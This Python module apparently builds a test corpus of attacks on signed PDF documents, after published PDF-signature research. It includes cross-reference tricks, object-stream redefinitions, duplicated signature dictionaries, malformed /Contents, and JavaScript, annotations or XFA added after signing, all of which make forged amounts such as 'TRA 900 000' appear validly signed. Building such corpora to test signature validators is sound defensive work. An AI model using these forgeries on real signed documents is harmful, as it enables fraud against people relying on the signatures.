"""Variants of the PDF-Insecurity attacks (Mladenov et al. 2019; Mainka et al. 2021 shadow and certification
attacks) that `corpus_attacks` does not build: cross-reference tricks (hybrid /XRefStm, a bumped generation, a
freed object, duplicate and mislabelled entries, a /Prev loop, a missing %%EOF), objects redefined only in
object streams (a font's encoding, the catalogue, the signature dictionary), a signature dictionary that its own
/ByteRange does not cover, /Contents spelled oddly, JavaScript and actions added after signing, sneaky
signatures and evil annotations on certified documents, and a form field filled without an appearance."""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields

from .corpus_attacks import FORGED, _last, _stream, append_update, content_id
from .corpus_pdf import N, _appearance, _num, _write, append_annotation, form_updated


def _reader(data: bytes) -> PdfFileReader:
    return PdfFileReader(io.BytesIO(data), strict=False)


def _serialise(obj) -> bytes:
    buf = io.BytesIO()
    obj.write_to_stream(buf)
    return buf.getvalue()


def _offset(data: bytes, num: int) -> int:
    """Offset of the last `num 0 obj` in `data`."""
    return [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % num, data)][-1]


def _table_update(data: bytes, body: bytes, rows: bytes, trailer_extra: bytes = b"", *, prev=None,
                  eof: bool = True) -> bytes:
    """`body` (objects written by hand, offsets relative to the start of the update) and a cross-reference
    table of `rows` (callable: base offset → bytes)."""
    root, size, startxref, _r = _last(data)
    out = data if data.endswith(b"\n") else data + b"\n"
    base = len(out)
    out += body
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n" + rows(base, xref_at)
    out += b"trailer\n<< /Size %d /Root %d %d R /Prev %d %s>>\n" % (
        size + 10, root.idnum, root.generation, startxref if prev is None else prev(xref_at), trailer_extra)
    out += b"startxref\n%d\n" % xref_at + (b"%%EOF\n" if eof else b"")
    return out


# ---- cross-reference tricks --------------------------------------------------------------------------------

def hybrid_xrefstm(data: bytes) -> bytes:
    """A hybrid-reference update: the table lists nothing new, its trailer's /XRefStm names a cross-reference
    stream that redefines the page content (readers that honour /XRefStm show it)."""
    cid = content_id(data)
    _root, size, _s, _r = _last(data)
    forged = b"%d 0 obj\n%s\nendobj\n" % (cid, _stream(FORGED))
    xnum = size + 3
    out_base = len(data if data.endswith(b"\n") else data + b"\n")
    row = b"\x01" + out_base.to_bytes(4, "big") + b"\x00\x00"
    stm_at = len(forged)
    body = forged + b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%d 1] /Length 7 >>\nstream\n%s\nendstream\nendobj\n" % (
        xnum, xnum + 1, cid, row)
    return _table_update(data, body, lambda base, _x: b"%d 1\n%010d 00000 n \n" % (xnum, base + stm_at),
                         b"/XRefStm %d " % (out_base + stm_at))


def generation_bumped(data: bytes) -> bytes:
    """The page content redefined as generation 1 (the page still says `N 0 R`: many readers ignore the
    generation and show the new object)."""
    cid = content_id(data)
    body = b"%d 1 obj\n%s\nendobj\n" % (cid, _stream(FORGED))
    return _table_update(data, body, lambda base, _x: b"%d 1\n%010d 00001 n \n" % (cid, base))


def content_freed(data: bytes) -> bytes:
    """An update whose only entry frees the page content object: the page shows nothing (hide)."""
    cid = content_id(data)
    return _table_update(data, b"", lambda _b, _x: b"%d 1\n0000000000 00001 f \n" % cid)


def duplicate_entry(data: bytes) -> bytes:
    """One table lists the content object twice: first at its signed offset, then at a forged redefinition."""
    cid = content_id(data)
    old = _offset(data, cid)
    body = b"%d 0 obj\n%s\nendobj\n" % (cid, _stream(FORGED))
    return _table_update(data, body, lambda base, _x: b"%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (
        cid, old, cid, base))


def mislabelled_entry(data: bytes) -> bytes:
    """The entry of the content object points at an object that calls itself by another number."""
    cid = content_id(data)
    body = b"%d 0 obj\n%s\nendobj\n" % (cid + 500, _stream(FORGED))
    return _table_update(data, body, lambda base, _x: b"%d 1\n%010d 00000 n \n" % (cid, base))


def prev_loop(data: bytes) -> bytes:
    """An update redefining the content whose /Prev points at its own cross-reference table."""
    cid = content_id(data)
    body = b"%d 0 obj\n%s\nendobj\n" % (cid, _stream(FORGED))
    return _table_update(data, body, lambda base, _x: b"%d 1\n%010d 00000 n \n" % (cid, base),
                         prev=lambda xref_at: xref_at)


def no_eof(data: bytes) -> bytes:
    """A complete update redefining the content, ending at `startxref N` without %%EOF."""
    cid = content_id(data)
    body = b"%d 0 obj\n%s\nendobj\n" % (cid, _stream(FORGED))
    return _table_update(data, body, lambda base, _x: b"%d 1\n%010d 00000 n \n" % (cid, base), eof=False)


# ---- objects redefined only in object streams --------------------------------------------------------------

def font_in_objstm(data: bytes) -> bytes:
    """The page's font redefined inside an object stream: its /Differences draw code 49 ('1') as the glyph
    'nine' — the signed words "TRA 100 000" read "TRA 900 000" without a byte of the content changing."""
    r = _reader(data)
    font = r.root["/Pages"]["/Kids"][0]["/Resources"]["/Font"].raw_get("/F1").reference.idnum
    body = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
            b"/Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>")
    return append_update(data, {}, objstm={font: body}, xref="stream")


def catalog_in_objstm(data: bytes) -> bytes:
    """The catalogue redefined inside an object stream with an /OpenAction running JavaScript."""
    r = _reader(data)
    root = r.trailer.raw_get("/Root").reference
    cat = generic.DictionaryObject(r.root)
    cat[N("/OpenAction")] = _js()
    return append_update(data, {}, objstm={root.idnum: _serialise(cat)}, xref="stream")


def _sig_ref(data: bytes):
    r = _reader(data)
    fld = r.root["/AcroForm"]["/Fields"][0].get_object()
    return r, fld.raw_get("/V").reference


def sig_dict_in_objstm(data: bytes) -> bytes:
    """The signature dictionary redefined (same number, same /ByteRange and /Contents) only inside an object
    stream, its /Reason changed."""
    r, ref = _sig_ref(data)
    sig = generic.DictionaryObject(ref.get_object())
    sig[N("/Reason")] = generic.TextStringObject("Dong y chi 900 000 dong")
    return append_update(data, {}, objstm={ref.idnum: _serialise(sig)}, xref="stream")


def sig_value_repointed(data: bytes) -> bytes:
    """The signature field's /V re-pointed at a copy of its signature dictionary with another /Reason."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    fld_ref = w.root["/AcroForm"]["/Fields"].raw_get(0)
    fld = fld_ref.get_object()
    copy = generic.DictionaryObject(fld["/V"])
    copy[N("/Reason")] = generic.TextStringObject("Dong y chi 900 000 dong")
    fld[N("/V")] = w.add_object(copy)
    w.mark_update(fld_ref)
    return _write(w)


def duplicate_signature(data: bytes, *, objstm: bool = False) -> bytes:
    """A second signature field added after signing whose dictionary copies the first one's /ByteRange and
    /Contents: its /ByteRange covers the first revision, not the dictionary itself (with `objstm`, the
    dictionary is stored in an object stream)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    first = w.root["/AcroForm"]["/Fields"][0].get_object()["/V"]
    copy = generic.DictionaryObject({k: first.raw_get(k) for k in ("/Type", "/Filter", "/SubFilter", "/ByteRange",
                                                                     "/Contents", "/M") if k in first})
    copy[N("/Name")] = generic.TextStringObject("Nguyen Van Gia")
    if objstm:
        w.stream_xrefs = True
        sig = w.add_object(copy, obj_stream=w.prepare_object_stream())
    else:
        sig = w.add_object(copy)
    add_sig_field(w, sig, page_ref=w.root["/Pages"].raw_get("/Kids")[0])
    return _write(w)


def add_sig_field(w, value, name: str = "Sig2", page_ref=None) -> None:
    """An invisible signature field `name` whose /V is `value`, added to the form and the first page."""
    page_ref = page_ref if page_ref is not None else w.root["/Pages"].raw_get("/Kids").raw_get(0)
    widget = w.add_object(generic.DictionaryObject({
        N("/Type"): N("/Annot"), N("/Subtype"): N("/Widget"), N("/FT"): N("/Sig"),
        N("/T"): generic.TextStringObject(name), N("/V"): value, N("/Rect"): _num(0, 0, 0, 0),
        N("/F"): generic.NumberObject(132), N("/P"): page_ref}))
    page = page_ref.get_object()
    page[N("/Annots")] = generic.ArrayObject([*page.get("/Annots", []), widget])
    w.root["/AcroForm"]["/Fields"].append(widget)
    form_updated(w)
    w.update_container(page)


# ---- /Contents spelled oddly -------------------------------------------------------------------------------

def contents_edit(data: bytes, kind: str) -> bytes:
    """/Contents rewritten in its gap (same length; the signed bytes untouched)."""
    m = re.search(rb"/Contents\s*<([0-9a-fA-F]+)>", data)
    start, end = m.span(1)
    digits = bytearray(data[start:end])
    if kind == "odd":            # one padding digit left out: an odd number of digits, the last assumed 0
        digits[-1:] = b" "
    elif kind == "odd-nonzero":  # odd, and the dangling digit is not 0: one more (non-zero) byte
        digits[-2:] = b"3 "
    elif kind == "non-hex":
        digits[-4:-3] = b"g"
    elif kind == "literal":
        lit = b"(" + b"x" * (end - start) + b")"
        return data[:start - 1] + lit + data[end + 1:]
    return data[:start] + bytes(digits) + data[end:]


# ---- JavaScript and actions --------------------------------------------------------------------------------

def _js(code: str = "app.alert('Da sua');"):
    return generic.DictionaryObject({N("/S"): N("/JavaScript"), N("/JS"): generic.TextStringObject(code)})


def add_javascript(data: bytes, where: str) -> bytes:
    """JavaScript added after signing: the catalogue's /OpenAction, its /Names /JavaScript tree, or the first
    page's open action (/AA /O)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    if where == "open-action":
        w.root[N("/OpenAction")] = w.add_object(_js())
        w.update_root()
    elif where == "names":
        tree = generic.DictionaryObject({N("/Names"): generic.ArrayObject([generic.TextStringObject("a"),
                                                                             w.add_object(_js())])})
        w.root[N("/Names")] = generic.DictionaryObject({N("/JavaScript"): w.add_object(tree)})
        w.update_root()
    else:
        page = w.root["/Pages"]["/Kids"][0].get_object()
        page[N("/AA")] = generic.DictionaryObject({N("/O"): _js()})
        w.update_container(page)
    return _write(w)


def annotation_with_action(data: bytes, rect, action: str) -> bytes:
    """A Link annotation (no appearance, nothing drawn) in `rect` whose action runs JavaScript, turns optional
    content on (SetOCGState) or only opens a web page (URI)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    if action == "javascript":
        act = _js("this.getOCGs(0).forEach(function (g) { g.state = true; });")
    elif action == "set-ocg":
        ocg = w.root["/OCProperties"]["/OCGs"].raw_get(0)
        act = generic.DictionaryObject({N("/S"): N("/SetOCGState"), N("/State"): generic.ArrayObject([N("/ON"), ocg])})
    else:
        act = generic.DictionaryObject({N("/S"): N("/URI"), N("/URI"): generic.TextStringObject("https://example.vn")})
    annot = generic.DictionaryObject({N("/Type"): N("/Annot"), N("/Subtype"): N("/Link"), N("/Rect"): _num(*rect),
                                      N("/Border"): _num(0, 0, 0), N("/F"): generic.NumberObject(4)})
    if action == "set-ocg":      # run when the page becomes visible, no click needed
        annot[N("/AA")] = generic.DictionaryObject({N("/PV"): act})
    else:
        annot[N("/A")] = act
    return append_annotation(w, page, annot)


def field_action(data: bytes) -> bytes:
    """A keystroke JavaScript (/AA /K) added to the form field after signing."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    ref = w.root["/AcroForm"]["/Fields"].raw_get(0)
    fld = ref.get_object()
    fld[N("/AA")] = generic.DictionaryObject({N("/K"): _js("event.value = 'TRA 900 000 DONG';")})
    w.mark_update(ref)
    return _write(w)


# ---- certified documents: sneaky signatures, evil annotations ----------------------------------------------

def sneaky_field(data: bytes, rect, text: bytes = b"DA DUYET CHI") -> bytes:
    """A new, unsigned signature field whose widget has an appearance with other words (sneaky signature)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    fields.append_signature_field(w, fields.SigFieldSpec(sig_field_name="Sneaky", box=rect))
    for ref in w.root["/AcroForm"]["/Fields"]:
        fld = ref.get_object()
        if fld.get("/T") == "Sneaky":
            fld[N("/AP")] = generic.DictionaryObject({N("/N"): w.add_object(_appearance(w, rect, text))})
            w.update_container(fld)
    return _write(w)


def markup_with_states(data: bytes, rect, subtype: str, states: tuple = ("/N",)) -> bytes:
    """A markup annotation whose appearance dictionary has only the given states (e.g. only /R, rollover),
    each opaque with other words; a /Redact one also has /OverlayText."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    annot = generic.DictionaryObject({N("/Type"): N("/Annot"), N("/Subtype"): N(subtype), N("/Rect"): _num(*rect),
                                      N("/F"): generic.NumberObject(4), N("/IC"): _num(1, 1, 1)})
    ap = generic.DictionaryObject({N(k): w.add_object(_appearance(w, rect, b"TRA 900 000 DONG")) for k in states})
    if ap:
        annot[N("/AP")] = ap
    if subtype == "/Redact":
        annot[N("/OverlayText")] = generic.TextStringObject("TRA 900 000 DONG")
        annot[N("/QuadPoints")] = _num(rect[0], rect[3], rect[2], rect[3], rect[0], rect[1], rect[2], rect[1])
    return append_annotation(w, page, annot)


def fill_without_appearance(data: bytes, text: str = "TRA 900 000 DONG") -> bytes:
    """The text field gets a value and loses its appearance stream: readers build one from /DA and /V."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    ref = w.root["/AcroForm"]["/Fields"].raw_get(0)
    fld = ref.get_object()
    fld[N("/V")] = generic.TextStringObject(text)
    if "/AP" in fld:
        del fld["/AP"]
    w.mark_update(ref)
    return _write(w)


def ocg_usage_on(data: bytes) -> bytes:
    """Only the optional content group's own dictionary changes: a /Usage asking viewers to show it."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    ref = w.root["/OCProperties"]["/OCGs"].raw_get(0)
    ocg = ref.get_object()
    ocg[N("/Usage")] = generic.DictionaryObject({N("/View"): generic.DictionaryObject({N("/ViewState"): N("/ON")})})
    w.mark_update(ref)
    return _write(w)

def visible_doc_timestamp(data: bytes, rect, stamper) -> bytes:
    """A document time-stamp whose field has a visible widget (an appearance drawn by the reader)."""
    from pyhanko.sign.signers.pdf_signer import PdfTimeStamper

    w = IncrementalPdfFileWriter(io.BytesIO(data))
    fields.append_signature_field(w, fields.SigFieldSpec(sig_field_name="TS1", box=rect))
    for ref in w.root["/AcroForm"]["/Fields"]:
        fld = ref.get_object()
        if fld.get("/T") == "TS1":
            fld[N("/AP")] = generic.DictionaryObject({N("/N"): w.add_object(_appearance(w, rect, b"DA DUYET"))})
            w.update_container(fld)
    return PdfTimeStamper(stamper, field_name="TS1").timestamp_pdf(w, "sha256").getvalue()


def base_field_without_appearance(rect) -> bytes:
    """One page with the text field "Ghi chu" at `rect` that has no appearance stream (nothing drawn, no value)."""
    from .corpus_pdf import base_pdf

    w = IncrementalPdfFileWriter(io.BytesIO(base_pdf(rect)))
    ref = w.root["/AcroForm"]["/Fields"].raw_get(0)
    fld = ref.get_object()
    del fld["/AP"]
    w.root["/AcroForm"][N("/DA")] = generic.TextStringObject("/Helv 24 Tf 0 g")
    w.mark_update(ref)
    w.update_root()
    return _write(w)


def hidden_sig_field_with_script(data: bytes) -> bytes:
    """A new, invisible, unsigned signature field (an LTA-level change for a difference analysis that looks only
    at the field) whose widget runs JavaScript when the page opens (/AA /PO)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    fields.append_signature_field(w, fields.SigFieldSpec(sig_field_name="Trong"))
    for ref in w.root["/AcroForm"]["/Fields"]:
        fld = ref.get_object()
        if fld.get("/T") == "Trong":
            fld[N("/AA")] = generic.DictionaryObject({N("/PO"): _js("this.getField('Ghi chu').value = 'x';")})
            w.update_container(fld)
    return _write(w)


def xfa_added(data: bytes) -> bytes:
    """An XFA form added to /AcroForm after signing: XFA-aware readers show its template instead of the pages."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    xdp = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
           b'<subform><draw><value><text>TRA 900 000 DONG</text></value></draw></subform></template></xdp:xdp>')
    form = w.root["/AcroForm"]
    form[N("/XFA")] = w.add_object(generic.StreamObject(stream_data=xdp))
    form_updated(w)
    return _write(w)


def swap_link_action(data: bytes) -> bytes:
    """The link signed with a web address now runs JavaScript (only its /A changes)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    ref = page["/Annots"].raw_get(len(page["/Annots"]) - 1)
    ref.get_object()[N("/A")] = _js()
    w.mark_update(ref)
    return _write(w)


def move_annotation(data: bytes, rect) -> bytes:
    """The last annotation of the page moved to `rect` (its appearance unchanged)."""
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    ref = page["/Annots"].raw_get(len(page["/Annots"]) - 1)
    ref.get_object()[N("/Rect")] = _num(*rect)
    w.mark_update(ref)
    return _write(w)
